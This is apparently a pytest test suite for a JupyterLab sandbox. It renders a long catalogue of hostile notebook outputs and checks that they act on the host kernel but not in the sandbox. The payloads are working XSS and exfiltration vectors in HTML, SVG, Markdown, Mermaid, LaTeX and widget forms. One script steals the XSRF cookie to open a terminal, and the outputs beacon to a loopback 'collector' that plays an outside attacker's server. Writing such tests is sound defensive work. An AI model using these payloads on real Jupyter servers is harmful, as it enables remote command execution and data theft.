"""Outputs that mean harm, in a real browser on a real server: from the sandbox they do nothing.

The browser has the person's rights on the Jupyter server, and a network. So an attack tries two
things: to open a terminal, by the page's own cookies or by JupyterLab's own commands, and to carry
something to a stranger's server (the collector, on loopback). One notebook holds all of them, a
cell each. It runs on the host's kernel first, which shows which of them work; then in the sandbox,
where none may. Both are saved, opened again, and exported.

What works on the host is named with each attack: a test fails if one does not work there any more,
since it would prove nothing about the sandbox then.
"""

from __future__ import annotations

import contextlib
import re
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from nbconvert import HTMLExporter
from playwright.sync_api import Browser, Page, TimeoutError, expect

from browser.lab import WIDE, Lab, Notebook, chromium, running_lab
from needs import need
from sandbox import podman as setup

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.filterwarnings("ignore:Your element with mimetype:UserWarning"),  # of nbconvert
    # The first of them runs all attacks, four times.
    pytest.mark.timeout(900),
]

HOST, BOXED = "python-claude", "python-claude-sandboxed"
QUIET = 2.0
"""Seconds without a new request after which no more is expected."""
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
SETTINGS: dict[str, dict[str, object]] = {
    "@jupyterlab/completer-extension:manager": {"showDocumentationPanel": True},
}

# In all of them @C@ is the collector's address with the attack's name, and @JS@ the script.
SCRIPT = """
(async () => {
  let page = window;
  try { page = window.top.document && window.top } catch {}
  const tell = what => page.fetch('@C@/' + what, {mode: 'no-cors'});
  tell('script');
  const xsrf = (page.document.cookie.match(/_xsrf=([^;]+)/) || [])[1];
  const headers = {['X-XSRFToken']: xsrf};
  const made = await page.fetch('/api/terminals', {method: 'POST', headers});
  if (made.ok) tell('terminal');
})()
"""
COMMAND = """
(async () => {
  await window.jupyterapp.commands.execute('terminal:create-new');
  fetch('@C@/terminal', {mode: 'no-cors'});
})()
"""


@dataclass(frozen=True)
class Attack:
    """One output.

    Attributes:
        data: the MIME bundle.
        metadata: and its metadata.
        acts: what it achieves on the host's kernel: "terminal", "request", or nothing, where
            JupyterLab itself lets it do nothing; then it is there because it might one day.
        exported: whether it also sends a request from an exported page.
        code: what shows it, where that is not ``display``.
    """

    data: dict[str, Any] = field(default_factory=dict)
    metadata: dict[str, Any] = field(default_factory=dict)
    acts: str = ""
    exported: bool = False
    code: str = ""

    def source(self, name: str, collector: str) -> str:
        code = self.code or (
            "from IPython.display import display\n"
            f"display({self.data!r}, metadata={self.metadata!r}, raw=True)"
        )
        return armed(code, name, collector)


def armed(text: str, name: str, collector: str) -> str:
    """Return an attack with its script and its address filled in."""
    for mark, script in (("@JS@", SCRIPT), ("@COMMAND@", COMMAND)):
        # On one line and without double quotes, so that it can stand in an attribute.
        text = text.replace(mark, " ".join(script.split()).replace("'", "`"))
    return text.replace("@C@", f"{collector}/{name}")


def html(text: str, acts: str = "", **more: Any) -> Attack:
    return Attack({"text/html": text, "text/plain": "-"}, acts=acts, **more)


def markdown(text: str, acts: str = "", **more: Any) -> Attack:
    return Attack({"text/markdown": text, "text/plain": "-"}, acts=acts, **more)


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' width="20" height="20">'
)
ISOLATED = {"isolated": True}
MERMAID = "```mermaid\n{}\n```\n"

ATTACKS: dict[str, Attack] = {
    # -- HTML that runs script --
    "html-script": html("<script>@JS@</script>", "terminal", exported=True),
    "html-module": html('<script type="module">@JS@</script>', "terminal", exported=True),
    "html-script-src": html('<script src="@C@/x.js"></script>', "request", exported=True),
    "html-onerror": html('<img src="x:" onerror="@JS@">', "terminal", exported=True),
    "html-svg-onload": html('<svg onload="@JS@"></svg>', exported=True),
    "html-details": html('<details open ontoggle="@JS@">x</details>', "terminal", exported=True),
    "html-animation": html(
        "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=\"@JS@\">x</b>",
        "terminal",
        exported=True,
    ),
    "html-srcdoc": html(
        '<iframe srcdoc="<script>@JS@</script>"></iframe>', "terminal", exported=True
    ),
    "html-frame-js": html('<iframe src="javascript:@JS@"></iframe>', "terminal", exported=True),
    "html-autofocus": html('<input onfocus="@JS@" autofocus>', exported=True),
    "html-shadow": html(
        '<div><template shadowrootmode=open><img src="x:" onerror="@JS@"></template></div>',
        exported=True,
    ),
    "html-mutation": html(
        '<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="@JS@">'
        "</style></math></form>"
    ),
    "html-noscript": html('<noscript><p title="</noscript><img src=x: onerror=@JS@>">'),
    "html-isolated": Attack(
        {"text/html": "<script>@JS@</script>"}, {"text/html": ISOLATED}, "terminal", exported=True
    ),
    "html-isolated-all": Attack(
        {"text/html": "<script>@JS@</script>"}, ISOLATED, "terminal", exported=True
    ),
    # -- HTML that loads --
    "html-img": html('<img src="@C@/x.png">', "request", exported=True),
    "html-srcset": html('<img srcset="@C@/x.png 1x">', "request", exported=True),
    "html-picture": html(
        '<picture><source srcset="@C@/x.png"><img></picture>', "request", exported=True
    ),
    "html-css-url": html('<p style="background:url(@C@/x.png)">x</p>', "request", exported=True),
    "html-css-image-set": html(
        "<p style=\"background-image:image-set('@C@/x.png' 1x)\">x</p>", "request", exported=True
    ),
    "html-css-escaped": html(
        r'<p style="background:\75 rl(@C@/x.png)">x</p>', "request", exported=True
    ),
    "html-css-content": html(
        '<p style="list-style:url(@C@/x.png);display:list-item">x</p>', "request", exported=True
    ),
    "html-style-import": html("<style>@import '@C@/x.css';</style>x", "request", exported=True),
    "html-style-font": html(
        "<style>@font-face{font-family:q;src:url(@C@/x.woff)}.q{font-family:q}</style>"
        "<p class=q>x</p>",
        "request",
        exported=True,
    ),
    "html-styler-url": html(
        "<style>#T_a td { background: url(@C@/x.png) }</style><table id=T_a><tr><td>x</table>",
        "request",
        exported=True,
    ),
    "html-styler-escape": html(
        "<style>#T_b td { color: red; } @import '@C@/y.css'; #T_b td"
        " { background-image: \\75rl(@C@/x.png) }</style><table id=T_b><tr><td>x</table>",
        "request",
        exported=True,
    ),
    "html-link": html('<link rel="stylesheet" href="@C@/x.css">x', "request", exported=True),
    "html-preload": html('<link rel="preload" as="image" href="@C@/x">x', "request", exported=True),
    "html-prefetch": html('<link rel="prefetch" href="@C@/x">x', "request", exported=True),
    "html-iframe": html('<iframe src="@C@/x"></iframe>', "request", exported=True),
    "html-object": html('<object data="@C@/x"></object>', "request", exported=True),
    "html-embed": html('<embed src="@C@/x">', "request", exported=True),
    "html-video": html('<video src="@C@/x" autoplay></video>', "request", exported=True),
    "html-poster": html('<video poster="@C@/x"></video>', "request", exported=True),
    "html-audio": html('<audio src="@C@/x" autoplay></audio>', "request", exported=True),
    "html-track": html('<video><track default src="@C@/x"></video>', ""),
    "html-input": html('<input type="image" src="@C@/x">', "request", exported=True),
    "html-table": html('<table background="@C@/x"><tr><td>x</table>', "request", exported=True),
    "html-svg-image": html(f'{SVG}<image href="@C@/x"/></svg>', "request", exported=True),
    "html-svg-use": html(f'{SVG}<use href="@C@/x#a"/></svg>', ""),
    "html-svg-filter": html(
        f'{SVG}<filter id=f><feImage href="@C@/x"/></filter>'
        "<rect filter=url(#f) width=9 height=9 /></svg>",
        "request",
        exported=True,
    ),
    "html-form": html(
        '<form id=q action="@C@/x" target=z><iframe name=z></iframe></form>'
        "<script>document.getElementById('q').submit()</script>".replace("'", "`"),
        "request",
        exported=True,
    ),
    "html-speculation": html(
        '<script type="speculationrules">{"prefetch":[{"urls":["@C@/x"]}]}</script>',
        "request",
        exported=True,
    ),
    # -- other types --
    "svg": Attack({"image/svg+xml": f"{SVG}<script>@JS@</script></svg>"}),
    "svg-onload": Attack({"image/svg+xml": f'{SVG[:-1]} onload="@JS@"></svg>'}),
    "svg-image": Attack(
        {"image/svg+xml": f'{SVG}<image href="@C@/x" width="9" height="9"/></svg>'}
    ),
    "svg-frame": Attack(
        {
            "image/svg+xml": f'{SVG}<foreignObject width="9" height="9"><iframe'
            ' xmlns="http://www.w3.org/1999/xhtml" src="@C@/x"></iframe></foreignObject></svg>'
        }
    ),
    "svg-stylesheet": Attack(
        {
            "image/svg+xml": f'<?xml-stylesheet href="@C@/x.css"?>{SVG}'
            "<style>@import '@C@/y.css'; rect{fill:url(@C@/z)}</style>"
            '<rect width="9" height="9"/></svg>'
        }
    ),
    "svg-isolated": Attack(
        {"image/svg+xml": f"{SVG}<script>@JS@</script></svg>"},
        {"image/svg+xml": ISOLATED},
    ),
    "javascript": Attack({"application/javascript": "@JS@"}, {}, "terminal", exported=True),
    "javascript-text": Attack({"text/javascript": "@JS@"}, {}, "terminal"),
    "javascript-ecma": Attack({"application/ecmascript": "@JS@"}),
    "vega": Attack(
        {
            "application/vnd.vegalite.v5+json": {
                "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
                "data": {"url": "@C@/x.json"},
                "mark": "point",
            }
        },
        {},
        "request",
    ),
    "mermaid-type": Attack(
        {"text/vnd.mermaid": 'graph TD\nA@{ img: "@C@/x", label: "a" }'}, {}, "request"
    ),
    "geojson": Attack({"application/geo+json": {"type": "Point", "coordinates": [0, 0]}}),
    "pdf": Attack({"application/pdf": "JVBERi0xLjQKJeLjz9MK"}),
    "markdown-html": markdown(
        'x <img src="@C@/x"> <script>@JS@</script>', "request", exported=True
    ),
    "markdown-image": markdown("![x](@C@/x)", "request", exported=True),
    "markdown-reference": markdown("![x][r]\n\n[r]: @C@/x", "request", exported=True),
    "markdown-style": markdown("<b style='background:url(@C@/x)'>x</b>", "request", exported=True),
    "markdown-code": markdown('```html" onerror="@JS@\nx\n```'),
    "markdown-mermaid": markdown(
        MERMAID.format('graph TD\nA@{ img: "@C@/x", label: "a", w: 60, h: 60 }'), "request"
    ),
    "markdown-mermaid-css": markdown(
        MERMAID.format('%%{init: {"themeCSS": "* { background: url(@C@/x) }"}}%%\ngraph TD\nA-->B'),
        "request",
    ),
    "markdown-mermaid-style": markdown(
        MERMAID.format(
            "graph TD\nA-->B\nstyle A fill:\\75 rl(@C@/x)\nclassDef k"
            " fill:\\75 rl(@C@/y)\nclass B k"
        )
    ),
    "markdown-mermaid-entities": markdown(
        MERMAID.format(
            'graph TD\nA["#lt;img src=#quot;@C@/x#quot;#gt;"]-->B["#60;img src=@C@/y#62;"]'
        )
    ),
    "latex-href": Attack({"text/latex": r"$\href{javascript:@JS@}{click}$"}),
    "latex-bbox": Attack({"text/latex": r"$\bbox[background:url(@C@/x)]{x}$"}),
    "latex-style": Attack({"text/latex": r"$\style{background:url(@C@/x)}{x}$"}),
    "latex-require": Attack({"text/latex": r"$\require{html}\style{background:url(@C@/x)}{x}$"}),
    "latex-image": Attack({"text/latex": r"$\includegraphics{@C@/x}$ <img src='@C@/x'>"}),
    "latex-color": Attack({"text/latex": r"$\colorbox{url(@C@/x)}{x}\color{red;x:url(@C@/y)}x$"}),
    "html-formula": html(r"<p>$\style{background:url(@C@/x)}{x}\href{javascript:@JS@}{y}$</p>"),
    "json": Attack({"application/json": {"<img src=x: onerror='@JS@'>": "<img src='@C@/x'>"}}),
    "png-metadata": Attack(
        {"image/png": DOT, "text/plain": "-"},
        {"image/png": {"width": "1 onerror=@JS@", "height": '9" src="@C@/x'}},
    ),
    "png-url": Attack({"image/png": "x,' src=@C@/x onerror=@JS@"}),
    "many": Attack(
        {
            "text/plain": "-",
            "text/html": "<script>@JS@</script>",
            "text/markdown": "![x](@C@/m)",
            "text/latex": r"$\style{background:url(@C@/l)}{x}$",
            "image/svg+xml": f"{SVG}<script>@JS@</script></svg>",
            "application/javascript": "@JS@",
            "application/vnd.jupyter.stderr": "<img src='@C@/e'>",
            "TEXT/HTML": "<script>@JS@</script>",
            "text/html; charset=utf-8": "<script>@JS@</script>",
            "application/x-unknown": "<script>@JS@</script>",
        },
        {"isolated": True, "text/html": ISOLATED, "TEXT/HTML": ISOLATED},
        "terminal",
        exported=True,
    ),
    # -- other ways to show something --
    "result": Attack(
        code='class R:\n    def _repr_html_(self): return "<script>@JS@</script>"\nR()',
        acts="terminal",
        exported=True,
    ),
    "update": Attack(
        code="from IPython.display import HTML, display\n"
        "h = display(HTML('-'), display_id=True)\n"
        'h.update(HTML("<script>@JS@</script>"))',
        acts="terminal",
        exported=True,
    ),
    "error": Attack(
        code='class E(Exception):\n    def _render_traceback_(self): return ["<img src=x:'
        " onerror='@JS@'> <script>@JS@</script> @C@/x\"]\nraise E('<img src=@C@/y>')",
    ),
    "stream": Attack(
        code="print('<script>@JS@</script> \\x1b[31m<img src=@C@/x>\\x1b[0m @C@/y"
        " \\x1b]8;;@C@/z\\x1b\\\\link\\x1b]8;;\\x1b\\\\')",
    ),
    "page": Attack(
        code="get_ipython().payload_manager.write_payload({'source': 'page', 'start': 0, 'data':"
        ' {"text/plain": "-", "text/html": "<script>@JS@</script>"}})',
        acts="terminal",
        exported=True,
    ),
    "forged-stream": Attack(
        code="k = get_ipython().kernel\n"
        "k.session.send(k.iopub_socket, 'stream', {'name': '\"><img src=@C@/n>', 'text':"
        " ['<img src=@C@/t>']}, parent=k.get_parent())",
    ),
    "forged-error": Attack(
        code="k = get_ipython().kernel\n"
        "k.session.send(k.iopub_socket, 'error', {'ename': '<img src=@C@/n>', 'evalue':"
        " '<img src=@C@/v>', 'traceback': ['\\x1b[31m<img src=x: onerror=\"@JS@\">']},"
        " parent=k.get_parent())",
    ),
    "widget-html": Attack(
        code='import ipywidgets\nipywidgets.HTML("<img src=\'x:\' onerror=\\"@JS@\\">")',
        acts="terminal",
    ),
    "widget-image": Attack(
        code="import ipywidgets\nipywidgets.Image(value=b'@C@/x', format='url')", acts="request"
    ),
    "widget-output": Attack(
        code="import ipywidgets\nipywidgets.Output(outputs=({'output_type': 'display_data',"
        " 'metadata': {}, 'data': {\"text/html\": \"<script>@JS@</script>\"}},))",
        acts="terminal",
    ),
    "widget-module": Attack(
        # What anywidget does: a model whose code is loaded from wherever it says.
        code="import ipywidgets\nfrom traitlets import Unicode\n"
        "class W(ipywidgets.DOMWidget):\n"
        "    _view_name = Unicode('V').tag(sync=True)\n"
        "    _view_module = Unicode('@C@/x.js').tag(sync=True)\n"
        "    _view_module_version = Unicode('1.0.0').tag(sync=True)\n"
        "W()",
    ),
}
ALONE: dict[str, Attack] = {
    "html-command": html("<script>@COMMAND@</script>", "terminal"),
    "javascript-command": Attack({"application/javascript": "@COMMAND@"}, {}, "terminal"),
    "click-command": html(
        '<a class="commandlink" data-commandlinker-command="terminal:create-new"'
        ' data-commandlinker-args="{}" href="#">TARGET</a>',
        "terminal",
    ),
    "click-script": html('<a href="javascript:@JS@">TARGET</a>'),
    "click-handler": html('<b onclick="@JS@">TARGET</b>', "terminal"),
    "click-form": html('<form action="@C@/x"><button>TARGET</button></form>', "request"),
    "click-button": html('<button onclick="@JS@">TARGET</button>', "terminal"),
    "click-markdown": markdown("[TARGET](javascript:@JS@)"),
    "click-latex": Attack({"text/latex": r"$\href{javascript:@JS@}{\text{TARGET}}$"}),
    "click-refresh": html('TARGET<meta http-equiv="refresh" content="0;url=@C@/x">', "request"),
    "click-base": html('<base href="@C@/"><i>TARGET</i>', "request"),
}
"""What waits for a click, or leads the page away; each has a notebook of its own."""


class Collector:
    """A stranger's server on loopback, that notes what it is asked.

    Attributes:
        url: where it is.
    """

    def __init__(self) -> None:
        self._asked: list[str] = []
        asked = self._asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                kind = "text/javascript" if self.path.endswith(".js") else "text/plain"
                self.send_header("Content-Type", kind)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Cache-Control", "no-store")
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"

    def __enter__(self) -> Collector:
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *args: object) -> None:
        self._server.shutdown()
        self._server.server_close()

    def take(self) -> dict[str, set[str]]:
        """Wait until nothing comes any more; return what came, by the attack's name, and forget
        it."""
        seen, since = -1, time.monotonic()
        while seen != len(self._asked) or time.monotonic() - since < QUIET:
            if seen != len(self._asked):
                seen, since = len(self._asked), time.monotonic()
            time.sleep(0.1)
        found: dict[str, set[str]] = {}
        for path in self._asked[:seen]:
            _, name, *rest = path.split("/", 2)
            found.setdefault(name, set()).add("/".join(rest))
        del self._asked[:seen]
        return found


@pytest.fixture(scope="module")
def collector() -> Iterator[Collector]:
    with Collector() as running:
        yield running


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    need("jupyterlab")
    env = {**setup.ready().variables, "FAMILIAR_SANDBOX_IMAGE": setup.IMAGE}
    home = tmp_path_factory.mktemp("lab") / "home"
    with running_lab(home, env=env, settings=SETTINGS) as running:
        running.root.chmod(0o755)  # the sandbox's user is another one
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium(need("chromium")) as running:
        yield running


@dataclass(frozen=True)
class Done:
    """What the attacks of one notebook did.

    Attributes:
        file: the notebook, saved.
        shown: requests while the cells ran, by the attack's name.
        opened: requests when the saved notebook was opened again.
        terminals: how many terminals there were after each.
        exported: requests from its export to HTML.
    """

    file: Path
    shown: dict[str, set[str]]
    opened: dict[str, set[str]]
    terminals: tuple[int, int]
    exported: dict[str, set[str]]


def _terminals(lab: Lab) -> int:
    """Return how many terminals there are, and end them."""
    names = [one["name"] for one in lab.api("GET", "terminals")]
    for name in names:
        lab.api("DELETE", f"terminals/{name}")
    return len(names)


def _all_run(lab: Lab, browser: Browser, collector: Collector, kernel: str) -> Done:
    sources = [attack.source(name, collector.url) for name, attack in ATTACKS.items()]
    file = lab.write(f"attacks-{kernel}", *sources, kernel=kernel)
    page = lab.open(browser, file, (WIDE[0], 2000))
    with contextlib.closing(page.context):
        notebook = Notebook(page)
        notebook.wait_for_kernel()
        for index in range(len(sources)):
            _run_in_place(notebook, index)
        _look_at_everything(notebook)
        shown = collector.take()
        notebook.save()
    terminals = _terminals(lab)
    page = lab.open(browser, file, (WIDE[0], 2000))
    with contextlib.closing(page.context):
        notebook = Notebook(page)
        notebook.wait_for_kernel()
        _look_at_everything(notebook)
        opened = collector.take()
    again = _terminals(lab)
    lab.shut_kernel_down(file.name)
    return Done(file, shown, opened, (terminals, again), _exported(browser, collector, file))


def _run_in_place(notebook: Notebook, index: int) -> None:
    """Run a cell, also where attacks take the focus away or move it while it is clicked."""
    begun = re.compile(r"\[[*\d]+\]:")
    for _ in range(5):
        notebook.select(index)
        notebook.page.keyboard.press("Control+Enter")
        with contextlib.suppress(AssertionError):
            expect(notebook.prompt(index)).to_have_text(begun, timeout=2000)
            break
    notebook.finish(index)


def _look_at_everything(notebook: Notebook) -> None:
    """Scroll through a notebook: what is far away is not drawn."""
    for index in range(notebook.cells.count()):
        notebook.cell(index).scroll_into_view_if_needed()


def _exported(browser: Browser, collector: Collector, file: Path) -> dict[str, set[str]]:
    """Return what an exported notebook asks for. It may load nothing else: its libraries come from
    elsewhere, and no test asks anybody outside this machine."""
    found: dict[str, set[str]] = {}
    for template in ("lab", "classic", "basic"):
        page_text, _ = HTMLExporter(template_name=template).from_filename(str(file))
        export = file.with_suffix(f".{template}.html")
        export.write_text(page_text, encoding="utf-8")
        context = browser.new_context()
        with contextlib.closing(context):
            page = context.new_page()
            stranger = re.compile(rf"^(?!file:|data:|{re.escape(collector.url)})")
            page.route(stranger, lambda route: route.abort())
            page.goto(export.as_uri(), wait_until="domcontentloaded")
            page.mouse.wheel(0, 100_000)
            for name, asked in collector.take().items():
                found.setdefault(name, set()).update(asked)
    return found


@pytest.fixture(scope="module")
def on_host(lab: Lab, browser: Browser, collector: Collector) -> Done:
    return _all_run(lab, browser, collector, HOST)


@pytest.fixture(scope="module")
def in_sandbox(lab: Lab, browser: Browser, collector: Collector) -> Done:
    return _all_run(lab, browser, collector, BOXED)


# -- attacks that need nobody ----------------------------------------------------------------------


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_works_from_the_host_and_does_nothing_from_the_sandbox(
    on_host: Done, in_sandbox: Done, name: str
) -> None:
    attack = ATTACKS[name]
    for asked in (on_host.shown, on_host.opened):
        assert what_it_did(asked, name) == attack.acts
    assert (name in on_host.exported) == attack.exported
    assert name not in in_sandbox.shown
    assert name not in in_sandbox.opened
    assert name not in in_sandbox.exported


def test_no_terminal_was_opened_from_the_sandbox(on_host: Done, in_sandbox: Done) -> None:
    wanted = sum(attack.acts == "terminal" for attack in ATTACKS.values())
    assert on_host.terminals == (wanted, wanted)
    assert in_sandbox.terminals == (0, 0)
    assert not in_sandbox.shown
    assert not in_sandbox.opened
    assert not in_sandbox.exported


def what_it_did(asked: dict[str, set[str]], name: str) -> str:
    if "terminal" in asked.get(name, ()):
        return "terminal"
    return "request" if name in asked else ""


# -- attacks that wait for a person ----------------------------------------------------------------


@pytest.mark.parametrize("name", ALONE)
def test_an_attack_that_waits_works_from_the_host(
    lab: Lab, browser: Browser, collector: Collector, name: str
) -> None:
    attack = ALONE[name]
    with opened(lab, browser, HOST, name, attack.source(name, collector.url)) as notebook:
        notebook.start(0)
        _click(notebook, 0, attack, 5000 if attack.acts else 1000)
        asked = collector.take()
        made = _terminals(lab)
        assert ("terminal" if made else "request" if asked else "") == attack.acts


def test_no_click_leads_to_anything_in_the_sandbox(
    lab: Lab, browser: Browser, collector: Collector
) -> None:
    sources = [attack.source(name, collector.url) for name, attack in ALONE.items()]
    with opened(lab, browser, BOXED, "waiting", *sources) as notebook:
        where = notebook.page.url
        for index, (name, attack) in enumerate(ALONE.items()):
            notebook.run(index)
            _click(notebook, index, attack, 1000)
            assert notebook.page.url == where, name
            assert len(notebook.page.context.pages) == 1, name
            assert _terminals(lab) == 0, name
        assert collector.take() == {}
        assert _terminals(lab) == 0


def _click(notebook: Notebook, index: int, attack: Attack, patience: int) -> None:
    """Click what an attack has to be clicked at, if it is there."""
    if "TARGET" in str(attack):
        target = notebook.output(index).get_by_text("TARGET", exact=True)
        with contextlib.suppress(TimeoutError):
            target.click(timeout=patience)


# What a kernel says when it is asked, rather than as an output.
ANSWERING = """
bundle = {"text/plain": "shown <img src=x: onerror='@JS@'> @C@/p", "text/html":
          "<b>shown</b><img src='x:' onerror='@JS@'><img src='@C@/x'><script>@JS@</script>"}
class Shown:
    def _repr_mimebundle_(self, **kwargs): return bundle
target = Shown()
kernel = get_ipython().kernel
kernel.do_inspect = lambda *args, **kwargs: {
    "status": "ok", "found": True, "data": bundle, "metadata": {"text/html": {"isolated": True}}}
word = "tar<img src=x: onerror='@JS@'><img src='@C@/x'>"
def complete(code, at):
    kinds = [{"text": word, "type": word, "signature": word, "start": 0, "end": at,
              "deprecated": True, "documentation": word}, {"text": "target", "type": "x" + word}]
    return {"status": "ok", "matches": [word, "target"], "cursor_start": 0, "cursor_end": at,
            "metadata": {"_jupyter_types_experimental": kinds}}
kernel.do_complete = complete
"""


def _by_tooltip(notebook: Notebook) -> None:
    notebook.page.keyboard.press("Shift+Tab")
    expect(notebook.page.locator(".jp-Tooltip")).to_contain_text("shown")


def _by_inspector(notebook: Notebook) -> None:
    notebook.page.get_by_role("menuitem", name="Help", exact=True).click()
    notebook.page.get_by_role("menuitem", name=re.compile("^Show Contextual Help")).click()
    notebook.select(1)
    notebook.page.keyboard.press("Home")
    notebook.page.keyboard.press("End")
    notebook.page.keyboard.press("ArrowLeft")
    expect(notebook.page.locator(".jp-Inspector-content")).to_contain_text("shown")


def _by_completer(notebook: Notebook) -> None:
    notebook.page.keyboard.press("Tab")
    expect(notebook.page.locator(".jp-Completer-item").first).to_be_visible()
    notebook.page.keyboard.press("ArrowDown")
    notebook.page.wait_for_timeout(2000)


def _by_debugger(notebook: Notebook) -> None:
    page = notebook.page
    variable = notebook.debug().get_by_text("target", exact=True)
    variable.click(timeout=30_000)
    variable.click(button="right")
    page.get_by_role("menuitem", name="Render Variable").click()
    expect(page.locator(".jp-VariableRendererPanel")).to_contain_text("shown")


ASKING: dict[str, tuple[Callable[[Notebook], None], str]] = {
    "tooltip": (_by_tooltip, "request"),
    "inspector": (_by_inspector, "request"),
    "completer": (_by_completer, ""),
    "debugger": (_by_debugger, "terminal"),
}


@pytest.mark.parametrize("name", ASKING)
def test_what_the_sandbox_answers_does_nothing_either(
    lab: Lab, browser: Browser, collector: Collector, name: str
) -> None:
    ask, acts = ASKING[name]
    for kernel, wanted in ((HOST, acts), (BOXED, "")):
        code = armed(ANSWERING, name, collector.url)
        with opened(lab, browser, kernel, name, code, "target") as notebook:
            notebook.run(0)
            notebook.select(1)
            notebook.page.keyboard.press("End")
            ask(notebook)
            asked = collector.take()
            made = _terminals(lab)
            assert ("terminal" if made else "request" if asked else "") == wanted, kernel


@contextlib.contextmanager
def opened(lab: Lab, browser: Browser, kernel: str, name: str, *sources: str) -> Iterator[Notebook]:
    """Open a notebook of its own, for the time of a ``with`` block."""
    file = lab.write(f"{name}-{kernel}", *sources, kernel=kernel)
    page: Page = lab.open(browser, file, alone=True)
    with contextlib.closing(page.context):
        notebook = Notebook(page)
        notebook.wait_for_kernel()
        yield notebook
    lab.shut_kernel_down(file.name)
